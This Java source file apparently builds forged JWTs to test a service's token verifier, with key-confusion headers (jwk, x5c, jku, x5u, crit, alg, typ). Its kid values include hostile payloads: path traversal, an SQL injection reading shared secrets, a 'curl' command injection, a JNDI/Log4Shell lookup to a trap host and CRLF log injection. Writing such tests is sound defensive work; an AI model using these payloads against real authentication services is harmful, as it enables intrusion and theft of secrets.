package dev.stagedoor.access;

import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.util.Base64URL;
import java.security.interfaces.ECPublicKey;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/** Tokens whose header selects another key or changes the interpretation of the token. */
final class ForgedHeaders {

    /** A forged log event, to detect log injection. */
    static final String LINE = "Forged line of a log";

    private ForgedHeaders() {}

    static Stream<Forgery> of(Forger forger) {
        return Stream.of(keyIds(forger), keys(forger), places(forger), meanings(forger))
                .flatMap(forgeries -> forgeries);
    }

    /** Signed by the forger, with key ids that attack the key lookup. */
    private static Stream<Forgery> keyIds(Forger forger) {
        var ours = forger.ours().getKeyID();
        var ids = Stream.of(
                        "another",
                        "",
                        1,
                        List.of(ours),
                        Map.of("kid", ours),
                        "../../../../../../dev/null",
                        "x' UNION SELECT value FROM platform.shared_secrets --",
                        "x; curl " + forger.trap(),
                        "${jndi:" + forger.trap().replace("http", "ldap") + "}",
                        forger.trap())
                .map(kid -> forger.withOwnKey("kid: " + kid, forger.draft().header("kid", kid)));
        var others = Stream.of(
                forger.withOwnKey("kid null", forger.draft().header("kid", null)),
                forger.withOwnKey("no kid", forger.draft().withoutHeader("kid")),
                forger.withOwnKey("kid and a NUL", forger.draft().header("kid", ours + "\u0000")),
                forger.withOwnKey("kid of two lines", forger.draft().header("kid", "x\r\n" + LINE)),
                forger.withOwnKey("kid of 4,000 characters", forger.draft().header("kid", "k".repeat(4_000))));
        return Stream.concat(ids, others);
    }

    /** Signed by the forger, with the forger's key in the header. */
    private static Stream<Forgery> keys(Forger forger) {
        var ours = forger.ours().getKeyID();
        var point = new ECKey.Builder(Curve.P_256, (ECPublicKey) forger.own().getPublic());
        var key = point.keyID(ours).build().toJSONObject();
        var secret = Base64URL.encode("shared");
        var shared = Map.of("kty", "oct", "kid", ours, "k", secret.toString());
        var certificate = Base64.getEncoder().encodeToString(Certificates.selfSigned(forger.own()));
        return Stream.of(
                forger.withOwnKey("jwk", forger.draft().header("jwk", key)),
                forger.withOwnKey(
                        "jwk and no kid", forger.draft().header("jwk", key).withoutHeader("kid")),
                new Forgery(
                        "jwk of a shared secret",
                        forger.draft()
                                .header("alg", "HS256")
                                .header("jwk", shared)
                                .signed(TokenSigner.hmac("HS256", secret.decode()))),
                forger.withOwnKey("x5c", forger.draft().header("x5c", List.of(certificate))),
                forger.withOwnKey(
                        "x5c and no kid",
                        forger.draft().header("x5c", List.of(certificate)).withoutHeader("kid")));
    }

    /** Signed by the forger, with a URL of the forger's key in the header. */
    private static Stream<Forgery> places(Forger forger) {
        var behindOurs = forger.trap().replace("//", "//localhost:8080@");
        var headers = Stream.of("jku", "x5u")
                .flatMap(name -> Stream.of(forger.trap(), behindOurs, "file:///dev/null")
                        .flatMap(place -> Stream.of(
                                forger.withOwnKey(
                                        name + " " + place, forger.draft().header(name, place)),
                                forger.withOwnKey(
                                        name + " " + place + " and another kid",
                                        forger.draft().header(name, place).header("kid", "another")))));
        var issuer = forger.withOwnKey(
                "the forger as the issuer",
                forger.draft().claim("iss", forger.trap()).header("kid", "another"));
        return Stream.concat(headers, Stream.of(issuer));
    }

    /** Signed with the service's key, with unsupported header parameters. */
    private static Stream<Forgery> meanings(Forger forger) {
        var draft = forger.draft();
        return Stream.of(
                forger.withStolenKey("another kid", draft.header("kid", "another")),
                forger.withStolenKey("no header at all", new TokenDraft(Map.of(), draft.claims())),
                forger.withStolenKey(
                        "crit with an unknown parameter",
                        draft.header("crit", List.of("x")).header("x", 1)),
                forger.withStolenKey("crit with an absent parameter", draft.header("crit", List.of("x"))),
                forger.withStolenKey("crit of a claim", draft.header("crit", List.of("exp"))),
                forger.withStolenKey("crit with a non-list value", draft.header("crit", "x")),
                forger.withStolenKey("b64 false", draft.header("b64", false)),
                forger.withStolenKey(
                        "b64 false, critical", draft.header("b64", false).header("crit", List.of("b64"))),
                forger.withStolenKey("alg es256", draft.header("alg", "es256")),
                forger.withStolenKey("alg ES256K", draft.header("alg", "ES256K")),
                forger.withStolenKey("alg in a list", draft.header("alg", List.of("ES256"))),
                forger.withStolenKey("enc in addition to alg", draft.header("enc", "A256GCM")),
                forger.withStolenKey("typ dpop+jwt", draft.header("typ", "dpop+jwt")),
                forger.withStolenKey("typ id_token", draft.header("typ", "id_token")),
                forger.withStolenKey("typ logout+jwt", draft.header("typ", "logout+jwt")),
                forger.withStolenKey("typ refresh+jwt", draft.header("typ", "refresh+jwt")),
                forger.withStolenKey("typ a number", draft.header("typ", 1)));
    }
}
